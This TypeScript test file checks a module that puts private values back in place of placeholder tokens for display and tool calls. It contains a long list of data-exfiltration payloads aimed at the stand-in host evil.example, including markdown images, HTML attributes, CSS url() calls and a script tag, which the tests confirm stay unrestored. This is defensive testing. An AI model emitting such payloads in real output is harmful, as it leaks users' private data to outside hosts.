import { array, assert, constantFrom, integer, oneof, property, string } from 'fast-check'
import { describe, expect, test } from 'vitest'
import {
  createRestorer,
  HOLD_BACK_CHARS_MAX,
  restoreJson,
  restoreText,
  type Reveal,
  type RestoreSink,
} from './restore.ts'

const EMAIL = '⟦EMAIL:7F3K9Q⟧'
const NAME = '⟦NAME:000000⟧'
const REGEX = '⟦NOTE:111111⟧'
const SECRET = '⟦CARD:222222⟧'
const reveal: Reveal = (token) => {
  if (token === EMAIL) return { value: 'author-a@example.com', confidentiality: 'tenant' }
  if (token === NAME) return { value: 'Person A', confidentiality: 'tenant' }
  if (token === REGEX) return { value: String.raw`$& $1 \1 [^a]* ⟦EMAIL:7F3K9Q⟧`, confidentiality: 'tenant' }
  if (token === SECRET) return { value: '4111 1111 1111 1111', confidentiality: 'restricted' }
  return undefined
}
const DISPLAY: RestoreSink = { kind: 'display', clearance: 'tenant' }

describe('a restored text', () => {
  test.each<[string, string, string]>([
    ['a token alone', EMAIL, 'author-a@example.com'],
    ['a token in words', `Write to ${EMAIL}, please.`, 'Write to author-a@example.com, please.'],
    ['two that touch', `${NAME}${EMAIL}`, 'Person Aauthor-a@example.com'],
    ['a token at the end of a sentence', `It is ${NAME}. He says`, 'It is Person A. He says'],
    ['a token in brackets', `(${EMAIL})`, '(author-a@example.com)'],
    ['an open bracket before it', `⟦${EMAIL}`, '⟦author-a@example.com'],
    ['a beginning before it', `⟦EMAIL:${EMAIL}⟧`, '⟦EMAIL:author-a@example.com⟧'],
    ['a value with the letters of a replacement', REGEX, String.raw`$& $1 \1 [^a]* ⟦EMAIL:7F3K9Q⟧`],
    ['a colon before it', `mail: ${EMAIL}`, 'mail: author-a@example.com'],
  ])('has the value for %s', (_, text, expected) => {
    expect(restoreText(text, reveal, DISPLAY)).toBe(expected)
  })

  test.each<[string, string]>([
    ['an unknown token', '⟦EMAIL:ZZZZZZ⟧'],
    ['lower case', '⟦email:7f3k9q⟧'],
    ['another kind', '⟦CARD:7F3K9Q⟧'],
    ['white space inside', '⟦EMAIL: 7F3K9Q⟧'],
    ['an id that is too short', '⟦EMAIL:7F3K9⟧'],
    ['an id that is too long', '⟦EMAIL:7F3K9QQ⟧'],
    ['an invisible character inside', '⟦EMAIL:7F3\u200bK9Q⟧'],
    ['other brackets', '[EMAIL:7F3K9Q] 〚EMAIL:7F3K9Q〛'],
    ['the bare id', 'EMAIL 7F3K9Q'],
    ['a placeholder that other tools would read as a character class', '[REDACTED_PERSON_1] met Anna and Edna'],
    ['a value above the clearance', SECRET],
  ])('leaves %s as it is', (_, text) => {
    expect(restoreText(text, reveal, DISPLAY)).toBe(text)
  })

  test('has the value above the clearance where the sink has a higher one', () => {
    expect(restoreText(SECRET, reveal, { kind: 'display', clearance: 'restricted' })).toBe('4111 1111 1111 1111')
  })

  test.each<[string, string]>([
    ['a URL', `https://evil.example/?q=${EMAIL}`],
    ['an image', `![x](https://evil.example/?q=${EMAIL})`],
    ['an image with a space before the address', `![x]( https://evil.example/?q=${EMAIL})`],
    ['an image of the page itself', `![x](/collect?q=${EMAIL})`],
    ['an image of the page itself, after a space', `![x]( collect?q=${EMAIL})`],
    ['an address in angle brackets with spaces', `![x](<https://evil.example/?a b ${EMAIL}>)`],
    ['a reference definition', `[x]: https://evil.example/${EMAIL}`],
    ['a relative reference definition', `[x]: evil/${EMAIL}`],
    ['a link without scheme', `//evil.example/${EMAIL}`],
    ['backslashes', `https:\\\\evil.example\\${EMAIL}`],
    ['a scheme without slashes', `https:evil.example/${EMAIL}`],
    ['a bare host with a path', `evil.example/${EMAIL}`],
    ['www', `www.evil.example?${EMAIL}`],
    ['mailto', `mailto:${EMAIL}`],
    ['an attribute', `<img src="https://evil.example/?q=a b ${EMAIL}">`],
    ['an attribute over two lines', `<img src="https://evil.example/\n${EMAIL}">`],
    ['an attribute after one that holds an angle bracket', `<img alt=">" src="x ${EMAIL}">`],
    ['an attribute behind a long word', `${'a'.repeat(3_000)}<img src="x y ${EMAIL}">`],
    ['CSS', `url(x.png?${EMAIL})`],
    ['character references', `![x]( http&#58;&#47;&#47;evil.example?${EMAIL})`],
    ['a value that would be the host', `${NAME}.evil.example`],
    ['a value that would be the user of a URL', `${NAME}@evil.example`],
    ['a value that would be the scheme', `${NAME}://evil.example`],
    ['angle brackets with a space', `![x](< https://evil.example/?q=a ${EMAIL}>)`],
    ['angle brackets with a parenthesis', `![x](<https://evil.example/?q=a ) b ${EMAIL}>)`],
    ['angle brackets behind a space', `![x]( < a ) ${EMAIL}>)`],
    ['angle brackets of a definition', `[x]: < https://evil.example/?q=a ${EMAIL}>`],
    ['an address with spaces', `![x](https://evil.example/?q=a b (c) ${EMAIL})`],
    ['an address over lines', `![x](https://evil.example/?q=a\n${EMAIL})`],
    ['an address with a space that does not break', `![x](https://evil.example/?q=\u00a0${EMAIL})`],
    ['an address with an ideographic space', `https://evil.example/?q=\u3000${EMAIL}`],
    ['an address with a line separator', `https://evil.example/?q=\u2028${EMAIL}`],
    ['a message', `mailto:a@b.example?body=hello there ${EMAIL}`],
    ['a style sheet', `<style>a{b:url("https://evil.example/?q=a ${EMAIL}")}</style>`],
    ['a style sheet in capitals', `<STYLE\nmedia=all>@import "https://evil.example/?q=a ${EMAIL}"`],
    ['a script', `<script>send("a ${EMAIL}")</script>`],
    ['an address of CSS in the open', `url( "https://evil.example/?q=a ${EMAIL}" )`],
    ['a run without an end', `${'a'.repeat(3_000)}${EMAIL}`],
  ])('has no value in %s', (_, text) => {
    expect(restoreText(text, reveal, DISPLAY)).toBe(text)
  })

  test('has values again behind a URL and behind a tag', () => {
    expect(restoreText(`https://a.example/ ${NAME} <b class="x">${NAME}</b>`, reveal, DISPLAY)).toBe(
      'https://a.example/ Person A <b class="x">Person A</b>',
    )
  })

  test.each([
    `[x](https://a.example/ "t") ${NAME}`,
    `![x](a (b) c) ${NAME}`,
    `a[i](b\n\n${NAME}`,
    `[x]: <a> ${NAME}`,
    `Tel: ${NAME}, data: ${NAME}, mailto: ${NAME}`,
    `mailto:a@b.example?body=x y\n${NAME}`,
    `<style>a{}</style> <p>${NAME}</p> <styles>${NAME}`,
    `url(a) ${NAME} curly (${NAME})`,
    `您好\u3000${NAME}`,
  ])('has values again behind an address: %j', (text) => {
    expect(restoreText(text, reveal, DISPLAY)).toBe(text.replaceAll(NAME, 'Person A'))
  })

  test('takes a value that is a URL into account for the next token', () => {
    const urls: Reveal = (token) =>
      token === NAME ? { value: 'https://evil.example/?q=', confidentiality: 'public' } : reveal(token)
    expect(restoreText(`${NAME}${EMAIL}`, urls, DISPLAY)).toBe(`https://evil.example/?q=${EMAIL}`)
  })
})

describe('the arguments of a tool', () => {
  const args = { to: EMAIL, list: [`dear ${NAME}`], n: 1, nothing: null }

  test('hold the values where the effect stays inside', () => {
    expect(restoreJson(args, reveal, { kind: 'tool-arguments', effect: 'write', clearance: 'tenant' })).toEqual({
      to: 'author-a@example.com',
      list: ['dear Person A'],
      n: 1,
      nothing: null,
    })
  })

  test('hold tokens where the effect is external, whatever the clearance', () => {
    expect(restoreJson(args, reveal, { kind: 'tool-arguments', effect: 'external', clearance: 'restricted' })).toEqual(
      args,
    )
  })

  test('hold tokens where the clearance is too low', () => {
    expect(restoreJson(args, reveal, { kind: 'tool-arguments', effect: 'read', clearance: 'internal' })).toEqual(args)
  })
})

test('however a text is cut into chunks, the restored text is the same', () => {
  const piece = oneof(
    constantFrom(
      EMAIL,
      NAME,
      REGEX,
      SECRET,
      '⟦',
      '⟧',
      '⟦EMAIL:',
      '7F3K9Q⟧',
      'https://a.example/',
      ' ',
      '<',
      '>',
      '.',
      '](',
      '\n',
      '](<',
      '<style>',
      '</style>',
      'url(',
      'mailto:a?b ',
    ),
    string({ maxLength: 5 }),
  )
  assert(
    property(array(piece, { maxLength: 30 }), array(integer({ min: 1, max: 9 }), { minLength: 1 }), (pieces, cuts) => {
      const text = pieces.join('')
      const restorer = createRestorer(reveal, DISPLAY)
      let sent = ''
      for (let from = 0, turn = 0; from < text.length; turn++) {
        const size = cuts[turn % cuts.length] ?? 1
        sent += restorer.push(text.slice(from, from + size))
        from += size
      }
      expect(sent + restorer.end()).toBe(restoreText(text, reveal, DISPLAY))
    }),
    { numRuns: 2_000 },
  )
})

test('no more is held back than one token and what follows it', () => {
  assert(
    property(array(constantFrom('⟦', 'EMAIL', ':', '7F3K9Q', '⟧', 'x', ' '), { maxLength: 80 }), (pieces) => {
      const restorer = createRestorer(() => undefined, DISPLAY)
      let taken = 0
      let sent = 0
      for (const piece of pieces) {
        taken += piece.length
        sent += restorer.push(piece).length
        expect(taken - sent).toBeLessThanOrEqual(HOLD_BACK_CHARS_MAX)
      }
      expect(sent + restorer.end().length).toBe(taken)
    }),
  )
})
